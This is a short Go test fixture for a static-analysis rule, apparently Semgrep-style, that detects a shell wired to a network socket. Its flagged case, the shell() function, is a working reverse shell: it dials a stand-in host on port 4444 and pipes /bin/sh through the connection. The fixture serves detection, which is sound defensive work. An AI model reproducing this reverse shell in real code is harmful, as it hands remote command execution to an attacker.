package a

import (
	"net"
	"os"
	"os/exec"
)

func shell() {
	c, _ := net.Dial("tcp", "example.invalid:4444")
	cmd := exec.Command("/bin/sh")
	// ruleid: go-shell-over-socket
	cmd.Stdin = c
	cmd.Stdout = c
	cmd.Stderr = c
	cmd.Run()
}

func pty(tty *os.File) {
	cmd := exec.Command("ls")
	// ok: go-shell-over-socket
	cmd.Stdin = os.Stdin
	cmd.Stdout = os.Stdout
	// ok: go-shell-over-socket
	cmd.Stdin = tty
	cmd.Stdout = tty
}
